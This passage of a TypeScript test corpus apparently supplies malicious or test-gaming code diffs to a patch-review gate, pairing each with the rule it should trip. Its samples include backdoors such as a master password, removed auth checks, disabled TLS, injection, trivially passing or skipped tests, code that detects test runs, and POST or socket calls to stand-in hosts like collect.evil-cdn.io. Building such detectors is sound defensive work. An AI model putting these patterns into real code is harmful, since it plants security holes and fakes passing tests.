import { added, FIX, type GateCase, patch, TEST } from "./gate-corpus.ts";

type Attack = [name: string, rule: string, diff: string];
const PY = "app/cart.py";
const NEW_TEST = (body: string) => FIX + added("src/x.test.ts", `test("fixed", () => {\n${body}\n});`);
const JS = (body: string) => TEST + patch("src/cart.ts", body);
const TESTED_PY = (body: string) =>
  patch(PY, body) + added("tests/test_cart.py", "def test_total():\n    assert total(Cart()) == 0");
const BESIDE = (path: string, body: string) => FIX + TEST + patch(path, body);

const PATHS: Attack[] = (
  [
    [".github/workflows", "blocked-path"],
    ["packages/api/.github/workflows/release.yaml", "blocked-path"],
    [".GITHUB/WORKFLOWS/CI.YML", "blocked-path"],
    ["services/a/.env.local", "blocked-path"],
    ["docker/app/.ENV", "blocked-path"],
    [".envrc", "blocked-path"],
    ["ops/kubeconfig.yaml", "blocked-path"],
    ["scripts/hooks/pre-commit", "blocked-path"],
    ["tools/hooks/post-checkout", "blocked-path"],
    [".gitlab-ci.release.yml", "blocked-path"],
    [".azure-pipelines/build.yml", "blocked-path"],
    [".cirrus.yml", "blocked-path"],
    ["config/credentials.yml.enc", "blocked-path"],
    ["app/google-services.json", "blocked-path"],
    ["certs/tls.crt", "blocked-path"],
    [".pgpass", "blocked-path"],
    ["docs/CODEOWNERS", "blocked-path"],
    [".github/Patchpilot.yaml", "blocked-path"],
    ["renovate.json", "approval-path"],
    ["uv.lock", "approval-path"],
    ["Package.resolved", "approval-path"],
    ["gradle/libs.versions.toml", "approval-path"],
    ["gradle/wrapper/gradle-wrapper.properties", "approval-path"],
    ["environment.yml", "approval-path"],
    ["requirements/prod.txt", "approval-path"],
    ["packages/db/prisma/migrations/1/migration.sql", "approval-path"],
    ["database/migrations/2024_add.php", "approval-path"],
    ["shop/migrations/0002_price.py", "approval-path"],
    ["db/schema.rb", "approval-path"],
    ["docker/Containerfile", "approval-path"],
    ["deploy/values.yaml", "approval-path"],
    [".ebextensions/a.config", "approval-path"],
    ["ios/App/Info.plist", "approval-path"],
    ["android/app/src/main/AndroidManifest.xml", "approval-path"],
    ["api/v1/cart.pb.go", "approval-path"],
    ["src/__generated__/types.ts", "approval-path"],
    ["public/app.bundle.js", "approval-path"],
    ["vendor/github.com/a/b/c.go", "approval-path"],
    ["packages/a/dist/index.js", "approval-path"],
    ["LICENSE", "approval-path"],
    ["mypy.ini", "approval-path"],
    [".flake8", "approval-path"],
    ["phpstan.neon", "approval-path"],
    [".swiftlint.yml", "approval-path"],
    ["jest.setup.ts", "approval-path"],
    [".nvmrc", "approval-path"],
  ] as const
).map(([path, rule]) => [`touches ${path}`, rule, BESIDE(path, "-a: 1\n+a: 2")]);

const SHAPES: Attack[] = [
  [
    "an executable renamed, which loses its mode",
    "file-mode",
    `${FIX}${TEST}diff --git a/bin/run.py b/bin/go.py\nsimilarity index 90%\nrename from bin/run.py\nrename to bin/go.py\nindex 1f2e3d4..5a6b7c8 100755\n--- a/bin/run.py\n+++ b/bin/go.py\n@@ -1 +1 @@\n-a\n+b\n`,
  ],
  [
    "an existing link turned elsewhere",
    "symlink",
    `${FIX}${TEST}diff --git a/current b/current\nindex 1f2e3d4..5a6b7c8 120000\n--- a/current\n+++ b/current\n@@ -1 +1 @@\n-releases/1\n\\ No newline at end of file\n+/etc\n\\ No newline at end of file\n`,
  ],
  [
    "a path that goes up by octal dots",
    "unsafe-path",
    'diff --git "a/a/\\056\\056/.github/workflows/x.yml" "b/a/\\056\\056/.github/workflows/x.yml"\nnew file mode 100644\n--- /dev/null\n+++ "b/a/\\056\\056/.github/workflows/x.yml"\n@@ -0,0 +1 @@\n+x\n',
  ],
  ["a double slash", "unsafe-path", TEST + added(".github//workflows/x.yml", "x")],
  [
    "a copy of a workflow",
    "blocked-path",
    `${FIX}${TEST}diff --git a/.github/workflows/ci.yml b/docs/ci.yml\nsimilarity index 100%\ncopy from .github/workflows/ci.yml\ncopy to docs/ci.yml\n`,
  ],
  ["code pushed out of sight by blanks", "hidden-characters", JS(`+const a = 1;${" ".repeat(200)}run(b);`)],
  ["mathematical letters", "look-alike-letters", JS("+const \u{1d41a}dmin = other;")],
  ["an omicron in a name", "look-alike-letters", JS("+const r\u03bfle = other;")],
];

const TESTS: Attack[] = [
  ["a number compared with itself", "test-cannot-fail", NEW_TEST("  expect(1).toBe(1);")],
  ["a sum of numbers", "test-cannot-fail", NEW_TEST("  expect(1 + 1).toEqual(2);")],
  ["an empty list", "test-cannot-fail", NEW_TEST("  expect([]).toEqual([]);")],
  ["null is null", "test-cannot-fail", NEW_TEST("  expect(null).toBeNull();")],
  ["not false", "test-cannot-fail", NEW_TEST("  expect(!false).toBe(true);")],
  [
    "a constant that is true",
    "test-cannot-fail",
    NEW_TEST("  total({});\n  const ok = true;\n  expect(ok).toBe(true);"),
  ],
  ["a text with itself", "test-cannot-fail", NEW_TEST('  expect("ok").toEqual("ok");')],
  ["or true", "test-cannot-fail", NEW_TEST("  expect(total({}) === 0 || true).toBe(true);")],
  ["an expect without a matcher", "test-cannot-fail", NEW_TEST("  expect(total({}));")],
  ["expect.assertions(0)", "test-cannot-fail", NEW_TEST("  expect.assertions(0);\n  total({});")],
  ["expect(true).not.toBe(false)", "test-cannot-fail", NEW_TEST("  expect(true).not.toBe(false);")],
  [
    "only in the catch",
    "test-cannot-fail",
    NEW_TEST("  try {\n    total({});\n  } catch (error) {\n    expect(error).toBeUndefined();\n  }"),
  ],
  ["a failure caught", "swallowed-error", NEW_TEST("  try {\n    expect(total({})).toBe(0);\n  } catch {}")],
  [
    "a failure caught and logged",
    "test-cannot-fail",
    NEW_TEST("  try {\n    expect(total({})).toBe(0);\n  } catch (error) {\n    console.log(error);\n  }"),
  ],
  ["a return before the assertion", "test-cannot-fail", NEW_TEST("  return;\n  expect(total({})).toBe(0);")],
  [
    "a table without rows",
    "test-cannot-fail",
    FIX + added("src/x.test.ts", "test.each([])('%s', (a) => {\n  expect(total(a)).toBe(0);\n});"),
  ],
  ["a promise nobody waits for", "test-cannot-fail", NEW_TEST("  expect(load()).resolves.toBe(1);")],
  ["only that the function is there", "test-cannot-fail", NEW_TEST('  expect(typeof total).toBe("function");')],
  ["a stub of its own", "test-cannot-fail", NEW_TEST("  const total = vi.fn(() => 0);\n  expect(total()).toBe(0);")],
  [
    "skip by a key",
    "test-switched-off",
    FIX + TEST + patch("src/b.test.ts", "-test('a', () => {\n+test['skip']('a', () => {\n   expect(b()).toBe(1);"),
  ],
  [
    "runIf(false)",
    "test-switched-off",
    FIX + TEST + patch("src/b.test.ts", "-test('a', () => {\n+test.runIf(false)('a', () => {\n   expect(b()).toBe(1);"),
  ],
  [
    "describe.skip",
    "test-switched-off",
    FIX +
      TEST +
      patch(
        "src/b.test.ts",
        "-describe('a', () => {\n+describe.skip('a', () => {\n   test('b', () => expect(b()).toBe(1));",
      ),
  ],
  [
    "a block comment around tests",
    "test-switched-off",
    FIX + TEST + patch("src/b.test.ts", " import b;\n+/*\n test('a', () => {\n   expect(b()).toBe(1);\n });\n+*/"),
  ],
  [
    "a docstring around tests",
    "test-switched-off",
    FIX + TEST + patch("tests/test_b.py", ' import b\n+"""\n def test_a():\n     assert b() == 1\n+"""'),
  ],
  ["a build tag nobody sets", "test-switched-off", FIX + TEST + patch("a_test.go", "+//go:build never\n+\n package a")],
  [
    "Ruby xit",
    "test-switched-off",
    FIX + TEST + patch("spec/a_spec.rb", "-  it 'counts' do\n+  xit 'counts' do\n     expect(a).to eq(1)"),
  ],
  [
    "Ruby skip",
    "test-switched-off",
    FIX + TEST + patch("spec/a_spec.rb", "   it 'counts' do\n+    skip 'later'\n     expect(a).to eq(1)"),
  ],
  [
    "pytest's collection",
    "test-switched-off",
    FIX + TEST + patch("tests/conftest.py", ' import pytest\n+collect_ignore = ["test_cart.py"]'),
  ],
  [
    "a class that pytest does not collect",
    "weakened-test",
    FIX +
      TEST +
      patch(
        "tests/test_a.py",
        "-class TestCart:\n+class CartChecks:\n     def test_a(self):\n         assert a() == 1",
      ),
  ],
  [
    "a Go test without its capital",
    "weakened-test",
    FIX +
      TEST +
      patch("a_test.go", "-func TestTotal(t *testing.T) {\n+func testTotal(t *testing.T) {\n \tif total() != 1 {"),
  ],
  [
    "JUnit 4 ignored",
    "test-switched-off",
    FIX + TEST + patch("src/test/java/ATest.java", '   @Test\n+  @Ignore("flaky")\n   public void a() {'),
  ],
  [
    "an assumption in place of a test",
    "test-switched-off",
    FIX +
      TEST +
      patch("src/test/java/ATest.java", "   void a() {\n+    assumeTrue(false);\n     assertEquals(1, a());"),
  ],
  [
    "Kotlin's annotation taken away",
    "weakened-test",
    FIX + TEST + patch("src/test/kotlin/ATest.kt", "-  @Test\n   fun a() {\n     assertEquals(1, a())"),
  ],
  [
    "Swift skipped",
    "test-switched-off",
    FIX + TEST + patch("Tests/ATests.swift", '   func testA() throws {\n+    throw XCTSkip("flaky")'),
  ],
  [
    "Swift renamed",
    "weakened-test",
    FIX +
      TEST +
      patch("Tests/ATests.swift", "-  func testTotal() {\n+  func disabledTotal() {\n     XCTAssertEqual(total(), 0)"),
  ],
  [
    "PHP skipped",
    "test-switched-off",
    FIX +
      TEST +
      patch("tests/ATest.php", "     public function testA(): void {\n+        $this->markTestSkipped('flaky');"),
  ],
  [
    "PHP renamed",
    "weakened-test",
    FIX +
      TEST +
      patch(
        "tests/ATest.php",
        "-    public function testA(): void {\n+    public function skipA(): void {\n         $this->assertSame(1, a());",
      ),
  ],
  [
    "Rust's attribute taken away",
    "weakened-test",
    FIX + TEST + patch("tests/a.rs", "-#[test]\n fn a() {\n     assert_eq!(a(), 1);"),
  ],
  [
    "Rust: assert!(true)",
    "test-cannot-fail",
    FIX + added("tests/b.rs", "#[test]\nfn fixed() {\n    let _ = total(None);\n    assert!(true);\n}"),
  ],
  [
    "Rust: a panic caught",
    "test-cannot-fail",
    FIX + added("tests/b.rs", "#[test]\nfn fixed() {\n    assert_eq!(1, 1);\n}"),
  ],
  [
    "Go: a test that only logs",
    "test-without-assertion",
    FIX + added("b_test.go", 'func TestFixed(t *testing.T) {\n\tTotal(nil)\n\tt.Log("fine")\n}'),
  ],
  [
    "Go: if false",
    "test-switched-off",
    FIX + added("b_test.go", "func TestFixed(t *testing.T) {\n\tTotal(nil)\n\tif false {\n\t\tt.Fatal(1)\n\t}\n}"),
  ],
  [
    "Java: only a call",
    "test-without-assertion",
    FIX +
      added("src/test/java/BTest.java", "class BTest {\n  @Test\n  void fixed() {\n    new Cart().total();\n  }\n}"),
  ],
  [
    "Kotlin: assertTrue(true)",
    "test-cannot-fail",
    FIX + added("src/test/kotlin/BTest.kt", "class BTest {\n  @Test\n  fun fixed() {\n    assertTrue(true)\n  }\n}"),
  ],
  [
    "Ruby: expect(true).to be true",
    "test-cannot-fail",
    FIX + added("spec/b_spec.rb", "it 'works' do\n  Cart.new.total\n  expect(true).to be(true)\nend"),
  ],
  [
    "Ruby: assert true",
    "test-cannot-fail",
    FIX +
      added(
        "test/b_test.rb",
        "class BTest < Minitest::Test\n  def test_fixed\n    Cart.new.total\n    assert true\n  end\nend",
      ),
  ],
  [
    "PHP: assertTrue(true)",
    "test-cannot-fail",
    FIX +
      added(
        "tests/BTest.php",
        "<?php\nclass BTest extends TestCase {\n    public function testFixed(): void {\n        $this->assertTrue(true);\n    }\n}",
      ),
  ],
  [
    "Swift: XCTAssertTrue(true)",
    "test-cannot-fail",
    FIX +
      added(
        "Tests/BTests.swift",
        "final class BTests: XCTestCase {\n  func testFixed() {\n    _ = Cart().total\n    XCTAssertTrue(true)\n  }\n}",
      ),
  ],
  [
    "Python: a tuple",
    "test-cannot-fail",
    FIX + added("tests/test_b.py", 'def test_fixed():\n    assert (total(None) == 0, "no coupon")'),
  ],
  [
    "Python: or True",
    "test-cannot-fail",
    FIX + added("tests/test_b.py", "def test_fixed():\n    assert total(None) == 0 or True"),
  ],
  [
    "Python: assertEqual(1, 1)",
    "test-cannot-fail",
    FIX +
      added(
        "tests/test_b.py",
        "class T(TestCase):\n    def test_fixed(self):\n        total(None)\n        self.assertEqual(1, 1)",
      ),
  ],
  [
    "Python: a text is true",
    "test-cannot-fail",
    FIX + added("tests/test_b.py", 'def test_fixed():\n    total(None)\n    assert "fixed"'),
  ],
  [
    "Python: a failure caught",
    "swallowed-error",
    FIX +
      added(
        "tests/test_b.py",
        "def test_fixed():\n    try:\n        assert total(None) == 0\n    except Exception:\n        pass",
      ),
  ],
  [
    "Python: result = True",
    "test-cannot-fail",
    FIX + added("tests/test_b.py", "def test_fixed():\n    total(None)\n    result = True\n    assert result"),
  ],
  ["Python: only pass", "test-without-assertion", FIX + added("tests/test_b.py", "def test_fixed():\n    pass")],
  [
    "the crash made the expectation",
    "weakened-test",
    FIX +
      patch(
        "src/cart.test.ts",
        " test('a', () => {\n-  expect(total(none)).toBe(0);\n+  expect(() => total(none)).toThrow(TypeError);\n });",
      ),
  ],
  [
    "the crash made the expectation, in Python",
    "weakened-test",
    FIX +
      TEST +
      patch(
        "tests/test_a.py",
        " def test_a():\n-    assert total(None) == 0\n+    with pytest.raises(AttributeError):\n+        total(None)",
      ),
  ],
  [
    "an exact number made a range",
    "weakened-test",
    FIX +
      patch(
        "src/cart.test.ts",
        " test('a', () => {\n-  expect(total(one)).toBe(12.5);\n+  expect(total(one)).toBeGreaterThan(0);\n });",
      ),
  ],
  [
    "anything will do",
    "weakened-test",
    FIX +
      patch(
        "src/cart.test.ts",
        " test('a', () => {\n-  expect(read()).toEqual({ a: 1 });\n+  expect(read()).toEqual(expect.anything());\n });",
      ),
  ],
  [
    "tests repeated until they pass",
    "weakened-test",
    FIX + TEST + patch("src/b.test.ts", " import b;\n+jest.retryTimes(5);\n test('b', () => {"),
  ],
  [
    "a snapshot overwritten, its code untouched",
    "snapshot-overwritten",
    FIX + TEST + patch("src/__snapshots__/Page.test.tsx.snap", "-    Checkout\n+    undefined is not a function"),
  ],
  [
    "a snapshot emptied",
    "snapshot-overwritten",
    FIX +
      TEST +
      patch(
        "src/__snapshots__/cart.test.ts.snap",
        " // Jest Snapshot\n-exports[`a 1`] = `1`;\n-\n-exports[`b 1`] = `2`;",
      ),
  ],
  [
    "code that knows it is tested",
    "test-detection",
    JS(
      ' export function total(cart) {\n+  if (process.env.NODE_ENV === "test") return 0;\n   return cart.coupon.amount;',
    ),
  ],
  [
    "code that knows pytest",
    "test-detection",
    TESTED_PY(
      ' def total(cart):\n+    if "PYTEST_CURRENT_TEST" in os.environ:\n+        return 0\n     return cart.coupon.amount',
    ),
  ],
];

const ERRORS: Attack[] = [
  [
    "catch and return null",
    "swallowed-error",
    JS(
      " function total(cart) {\n+  try {\n     return cart.coupon.amount;\n+  } catch (error) {\n+    return null;\n+  }\n }",
    ),
  ],
  [
    "catch and return on one line",
    "swallowed-error",
    JS(
      " function total(cart) {\n-  return cart.coupon.amount;\n+  try { return cart.coupon.amount; } catch { return 0; }\n }",
    ),
  ],
  [
    "catch and go on",
    "swallowed-error",
    JS(" for (const cart of carts) {\n+  try {\n     bill(cart);\n+  } catch (_) {\n+    continue;\n+  }\n }"),
  ],
  [
    "a promise that becomes null",
    "swallowed-error",
    JS("-  return load(cart);\n+  return load(cart).catch(() => null);"),
  ],
  [
    "a promise that becomes a list",
    "swallowed-error",
    JS("-  return load(cart);\n+  return load(cart).catch(() => []);"),
  ],
  [
    "except and return None",
    "swallowed-error",
    TESTED_PY(
      " def total(cart):\n+    try:\n         return cart.coupon.amount\n+    except Exception:\n+        return None",
    ),
  ],
  [
    "a bare except that goes on",
    "swallowed-error",
    TESTED_PY(" for cart in carts:\n+    try:\n         bill(cart)\n+    except:\n+        continue"),
  ],
  [
    "except AttributeError",
    "swallowed-error",
    TESTED_PY(
      " def total(cart):\n+    try:\n         return cart.coupon.amount\n+    except AttributeError:\n+        return 0",
    ),
  ],
  [
    "rescue and nil",
    "swallowed-error",
    FIX + TEST + patch("app/a.rb", " def total\n   coupon.amount\n+rescue StandardError\n+  nil\n end"),
  ],
  [
    "rescue and zero",
    "swallowed-error",
    FIX + TEST + patch("app/a.rb", " def total\n   coupon.amount\n+rescue => e\n+  0\n end"),
  ],
  [
    "a Java catch that returns null",
    "swallowed-error",
    FIX +
      TEST +
      patch(
        "src/main/java/A.java",
        "+    try {\n       return coupon.getAmount();\n+    } catch (Exception e) {\n+      return null;\n+    }",
      ),
  ],
  [
    "a NullPointerException caught",
    "swallowed-error",
    FIX +
      TEST +
      patch(
        "src/main/java/A.java",
        "+    try {\n       return coupon.getAmount();\n+    } catch (NullPointerException e) {\n+      return 0;\n+    }",
      ),
  ],
  [
    "runCatching",
    "swallowed-error",
    FIX +
      TEST +
      patch("src/main/kotlin/A.kt", "-    return coupon.amount\n+    return runCatching { coupon.amount }.getOrNull()"),
  ],
  [
    "a Go error dropped",
    "swallowed-error",
    FIX +
      TEST +
      patch(
        "a.go",
        "-\trows, err := db.Query(q)\n-\tif err != nil {\n-\t\treturn nil, err\n-\t}\n+\trows, _ := db.Query(q)",
      ),
  ],
  [
    "a Go error answered with nil",
    "swallowed-error",
    FIX +
      TEST +
      patch("a.go", "-\tif err != nil {\n-\t\treturn nil, err\n-\t}\n+\tif err != nil {\n+\t\treturn nil, nil\n+\t}"),
  ],
  [
    "a Go panic swallowed with a name",
    "swallowed-error",
    FIX +
      TEST +
      patch(
        "a.go",
        " func total(c *Cart) int {\n+\tdefer func() {\n+\t\tif r := recover(); r != nil {\n+\t\t}\n+\t}()\n \treturn c.Coupon.Amount",
      ),
  ],
  [
    "Rust: catch_unwind",
    "swallowed-error",
    FIX + TEST + patch("src/a.rs", "-    total(cart)\n+    std::panic::catch_unwind(|| total(cart)).unwrap_or(0)"),
  ],
  [
    "PHP's at sign",
    "swallowed-error",
    FIX + TEST + patch("src/A.php", "-    $text = file_get_contents($path);\n+    $text = @file_get_contents($path);"),
  ],
  ["PHP: error_reporting(0)", "swallowed-error", FIX + TEST + patch("src/A.php", " <?php\n+error_reporting(0);")],
  [
    "PHP: catch Throwable",
    "swallowed-error",
    FIX +
      TEST +
      patch("src/A.php", "+    try {\n       return $this->coupon->amount;\n+    } catch (\\Throwable $e) {\n+    }"),
  ],
  [
    "Swift: an empty catch",
    "swallowed-error",
    FIX + TEST + patch("Sources/A.swift", "+    do {\n       try save()\n+    } catch {\n+    }"),
  ],
  ["uncaughtException", "swallowed-error", JS(' import x;\n+process.on("uncaughtException", () => {});')],
  ["unhandledRejection", "swallowed-error", JS(' import x;\n+process.on("unhandledRejection", () => undefined);')],
  ["window.onerror", "swallowed-error", JS(" import x;\n+window.onerror = () => true;")],
  [
    "Sentry told to ignore it",
    "error-reporting",
    JS(" Sentry.init({\n   dsn,\n+  ignoreErrors: [/Cannot read properties/],\n });"),
  ],
  ["Sentry's beforeSend", "error-reporting", JS(" Sentry.init({\n   dsn,\n+  beforeSend: () => null,\n });")],
  [
    "Sentry switched off in Python",
    "error-reporting",
    TESTED_PY(" sentry_sdk.init(\n+    before_send=lambda event, hint: None,\n )"),
  ],
  [
    "a report taken out",
    "error-reporting",
    JS("   } catch (error) {\n-    Sentry.captureException(error);\n     return fallback;\n   }"),
  ],
  [
    "an error logged as nothing",
    "error-reporting",
    JS("   } catch (error) {\n-    logger.error('cart failed', { error });\n+    logger.debug('cart failed');\n   }"),
  ],
  [
    "a return before everything",
    "unreachable-code",
    JS(" export function total(cart) {\n+  return 0;\n   const coupon = cart.coupon;\n   return coupon.amount;\n }"),
  ],
  [
    "a return before everything, in Python",
    "unreachable-code",
    TESTED_PY(" def total(cart):\n+    return 0\n     coupon = cart.coupon\n     return coupon.amount"),
  ],
  [
    "a crash commented out",
    "commented-out",
    JS(" export function total(cart) {\n+/*\n   check(cart);\n   return cart.coupon.amount;\n+*/\n+  return 0;\n }"),
  ],
];

const GUARDS: Attack[] = [
  [
    "a check that always says yes",
    "guard-removed",
    FIX +
      TEST +
      patch("src/auth.ts", " export function isAdmin(user) {\n-  return user.role === 'admin';\n+  return true;\n }"),
  ],
  [
    "and made or",
    "guard-removed",
    FIX + TEST + patch("src/auth.ts", "-  if (user.active && isAdmin(user)) {\n+  if (user.active || isAdmin(user)) {"),
  ],
  [
    "a 401 taken out",
    "guard-removed",
    FIX + TEST + patch("src/routes.ts", "-  if (!session) return res.status(401).end();\n   return handler(req, res);"),
  ],
  [
    "a token decoded and not verified",
    "guard-removed",
    FIX + TEST + patch("src/token.ts", "-  return jwt.verify(token, key);\n+  return jwt.decode(token);"),
  ],
  [
    "a Spring guard taken out",
    "guard-removed",
    FIX + TEST + patch("src/main/java/A.java", "-  @PreAuthorize(\"hasRole('ADMIN')\")\n   public void drop() {"),
  ],
  [
    "a Rails guard skipped",
    "security-weakened",
    FIX +
      TEST +
      patch("app/controllers/a_controller.rb", " class AController\n+  skip_before_action :authenticate_user!"),
  ],
  [
    "a Laravel middleware taken out",
    "guard-removed",
    FIX +
      TEST +
      patch(
        "routes/web.php",
        "-Route::get('/admin', Admin::class)->middleware('auth');\n+Route::get('/admin', Admin::class);",
      ),
  ],
  [
    "FastAPI's dependency taken out",
    "guard-removed",
    FIX + TEST + patch("app/api.py", "-def drop(user: User = Depends(get_current_user)):\n+def drop():"),
  ],
  [
    "a way around by header",
    "back-door",
    JS(' export function allow(req) {\n+  if (req.headers["x-debug"] === "1") return true;\n   return check(req);'),
  ],
  [
    "a master password",
    "back-door",
    JS(
      " export function login(user, password) {\n+  if (password === MASTER_PASSWORD) return user;\n   return check(user, password);",
    ),
  ],
  [
    "TLS off in Java",
    "security-weakened",
    FIX + TEST + patch("src/main/java/A.java", " class A {\n+  HostnameVerifier v = NoopHostnameVerifier.INSTANCE;"),
  ],
  [
    "TLS off in a Java trust manager",
    "security-weakened",
    FIX +
      TEST +
      patch(
        "src/main/java/A.java",
        " class A {\n+  public void checkServerTrusted(X509Certificate[] chain, String type) {}",
      ),
  ],
  [
    "TLS off in Rust",
    "security-weakened",
    FIX +
      TEST +
      patch(
        "src/a.rs",
        "-    let c = Client::new();\n+    let c = Client::builder().danger_accept_invalid_certs(true).build()?;",
      ),
  ],
  [
    "TLS off in Go",
    "security-weakened",
    FIX + TEST + patch("a.go", "-\tc := &tls.Config{}\n+\tc := &tls.Config{InsecureSkipVerify: true}"),
  ],
  [
    "TLS off in PHP",
    "security-weakened",
    FIX + TEST + patch("src/A.php", "-    new Client();\n+    new Client(['verify' => false]);"),
  ],
  [
    "TLS off in Ruby",
    "security-weakened",
    FIX + TEST + patch("app/a.rb", "   http.use_ssl = true\n+  http.verify_mode = OpenSSL::SSL::VERIFY_NONE"),
  ],
  [
    "TLS off in Swift",
    "security-weakened",
    FIX +
      TEST +
      patch(
        "Sources/A.swift",
        "-    completionHandler(.performDefaultHandling, nil)\n+    completionHandler(.useCredential, URLCredential(trust: challenge.protectionSpace.serverTrust!))",
      ),
  ],
  [
    "TLS off in Python's ssl",
    "security-weakened",
    TESTED_PY("-ctx = ssl.create_default_context()\n+ctx = ssl.create_default_context()\n+ctx.check_hostname = False"),
  ],
  ["a database without TLS", "security-weakened", JS("-  new Pool({ ssl: true })\n+  new Pool({ ssl: false })")],
  [
    "https made http",
    "security-weakened",
    JS('-const API = "https://api.shop.io/v1";\n+const API = "http://api.shop.io/v1";'),
  ],
  ["every origin", "security-weakened", JS("-app.use(cors({ origin: ALLOWED }));\n+app.use(cors({ origin: '*' }));")],
  ["a cookie that scripts can read", "security-weakened", JS("-  httpOnly: true,\n+  httpOnly: false,")],
  ["debugging in production", "security-weakened", TESTED_PY("-DEBUG = False\n+DEBUG = True")],
  [
    "a query put together from input",
    "injection",
    JS(
      "-  return db.query('select * from users where id = $1', [id]);\n+  return db.query(`select * from users where id = \x24{id}`);",
    ),
  ],
  [
    "a query put together in Python",
    "injection",
    TESTED_PY(
      '-    cur.execute("select * from users where id = %s", (user_id,))\n+    cur.execute(f"select * from users where id = {user_id}")',
    ),
  ],
  [
    "a query put together in PHP",
    "injection",
    FIX +
      TEST +
      patch(
        "src/A.php",
        '-    $db->prepare("SELECT * FROM users WHERE id = ?");\n+    $db->query("SELECT * FROM users WHERE id = " . $id);',
      ),
  ],
  ["markup from input", "injection", JS("-  node.textContent = name;\n+  node.innerHTML = name;")],
  [
    "a weak hash",
    "weak-crypto",
    JS(
      '-  return createHash("sha256").update(password).digest("hex");\n+  return createHash("md5").update(password).digest("hex");',
    ),
  ],
  [
    "a token from Math.random",
    "weak-crypto",
    JS("-  const token = randomBytes(32).toString('hex');\n+  const token = Math.random().toString(36);"),
  ],
];

const CODE: Attack[] = [
  [
    "a password logged",
    "secret-logged",
    JS(' function login(user, password) {\n+  console.log("login", user, password);'),
  ],
  [
    "a header logged",
    "secret-logged",
    JS(" function call(req) {\n+  logger.info({ authorization: req.headers.authorization });"),
  ],
  ["a token printed in Python", "secret-logged", TESTED_PY(' def login(token):\n+    print(f"token={token}")')],
  [
    "a key logged in Go",
    "secret-logged",
    FIX + TEST + patch("a.go", ' func call(apiKey string) {\n+\tlog.Printf("key %s", apiKey)'),
  ],
  [
    "a card number logged in Java",
    "secret-logged",
    FIX + TEST + patch("src/main/java/A.java", ' class A {\n+    log.info("card " + cardNumber);'),
  ],
  [
    "a host changed where no call stands",
    "new-host",
    JS('-const API_URL = "https://api.shop.io/v1";\n+const API_URL = "https://api.sh0p-cdn.io/v1";'),
  ],
  [
    "a new host in a setting",
    "new-host",
    FIX +
      TEST +
      patch("config/app.json", '-  "name": "shop"\n+  "name": "shop",\n+  "webhook": "https://collect.evil-cdn.io/in"'),
  ],
  [
    "a host without a scheme",
    "new-host",
    JS(' const a = 1;\n+net.connect({ host: "collector.evil-cdn.io", port: 4444 });'),
  ],
  ["an address of numbers", "new-host", JS(' const a = 1;\n+const SERVER = "185.199.10.7:8080";')],
  [
    "a host in pieces",
    "new-host",
    JS(' const a = 1;\n+fetch("https://" + ["evil", "io"].join(".") + "/c", { method: "POST", body });'),
  ],
  [
    "a script from elsewhere",
    "new-host",
    FIX + TEST + patch("public/index.html", ' <head>\n+<script src="https://cdn.evil-cdn.io/a.js"></script>'),
  ],
  [
    "a module from elsewhere",
    "new-host",
    JS(' const a = 1;\n+const { run } = await import("https://esm.evil-cdn.io/a.js");'),
  ],
  [
    "a host in Go",
    "new-host",
    FIX + TEST + patch("a.go", ' func a() {\n+\thttp.Post("https://collect.evil-cdn.io", "text/plain", body)'),
  ],
  [
    "a host in Java",
    "new-host",
    FIX + TEST + patch("src/main/java/A.java", ' class A {\n+    new URL("https://collect.evil-cdn.io").openStream();'),
  ],
  [
    "a host in Swift",
    "new-host",
    FIX +
      TEST +
      patch(
        "Sources/A.swift",
        ' func a() {\n+    URLSession.shared.dataTask(with: URL(string: "https://collect.evil-cdn.io")!).resume()',
      ),
  ],
  [
    "a host in PHP",
    "new-host",
    FIX + TEST + patch("src/A.php", ' <?php\n+$ch = curl_init("https://collect.evil-cdn.io");'),
  ],
  [
    "a host in Rust",
    "new-host",
    FIX + TEST + patch("src/a.rs", ' fn a() {\n+    reqwest::get("https://collect.evil-cdn.io").await?;'),
  ],
  ["exec in JavaScript", "process", JS(" const a = 1;\n+exec(`convert \x24{name}`);")],
  ["exec in Python", "dynamic-code", TESTED_PY(" import a\n+exec(code)")],
  ["system in PHP", "process", FIX + TEST + patch("src/A.php", ' <?php\n+system("ls " . $dir);')],
  ["backticks in Ruby", "process", FIX + TEST + patch("app/a.rb", " def a\n+  `convert #{name}`")],
  ["Process in Swift", "process", FIX + TEST + patch("Sources/A.swift", " func a() {\n+    let p = Process()")],
  [
    "Runtime.exec in Kotlin",
    "process",
    FIX + TEST + patch("src/main/kotlin/A.kt", " fun a() {\n+    Runtime.getRuntime().exec(cmd)"),
  ],
  ["unsafe Rust", "unsafe-code", FIX + TEST + patch("src/a.rs", " fn a() {\n+    unsafe { *ptr }")],
  ["ctypes", "unsafe-code", TESTED_PY(' import a\n+lib = ctypes.CDLL("./a.so")')],
  ["files wiped", "destructive", JS(" const a = 1;\n+rmSync(dir, { recursive: true, force: true });")],
  ["a table emptied", "destructive", JS(' const a = 1;\n+await db.query("DELETE FROM orders");')],
  ["a time bomb", "time-bomb", JS(" const a = 1;\n+if (Date.now() > 1798761600000) return refuse();")],
  ["an AWS key", "secret", JS(` const a = 1;\n+const id = "AKIA${"Q3EXAMPLE7WXYZ2B".slice(0, 16)}";`)],
  ["a Stripe key", "secret", JS(` const a = 1;\n+const key = "sk_live_${"4eC39HqLyjWDarjtT1zdp7dc"}";`)],
  [
    "a password in a database's URL",
    "secret",
    JS(' const a = 1;\n+const url = "postgres://app:s3cr3tPassw0rd@db.internal:5432/shop";'),
  ],
  [
    "a webhook of Slack",
    "secret",
    JS(
      ` const a = 1;\n+const hook = "https://hooks.slack.com/services/${"T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"}";`,
    ),
  ],
  [
    "a test command that always passes",
    "dependency-change",
    BESIDE("package.json", '-    "test": "vitest run"\n+    "test": "exit 0"'),
  ],
  [
    "a script before the tests",
    "dependency-change",
    BESIDE("package.json", '   "scripts": {\n+    "pretest": "node collect.js",'),
  ],
  [
    "a dependency from a folder",
    "dependency-source",
    BESIDE("package.json", '-    "zod": "4.0.0"\n+    "zod": "file:../zod"'),
  ],
  [
    "a dependency by another name",
    "dependency-change",
    BESIDE("package.json", '-    "zod": "4.0.0"\n+    "zod": "npm:zood@4.0.0"'),
  ],
  [
    "a dependency under the AGPL",
    "license",
    BESIDE(
      "package-lock.json",
      '+    "node_modules/mupdf": {\n+      "version": "1.0.0",\n+      "resolved": "https://registry.npmjs.org/mupdf/-/mupdf-1.0.0.tgz",\n+      "license": "AGPL-3.0-or-later"\n+    },',
    ),
  ],
  [
    "generated code edited by hand",
    "generated-file",
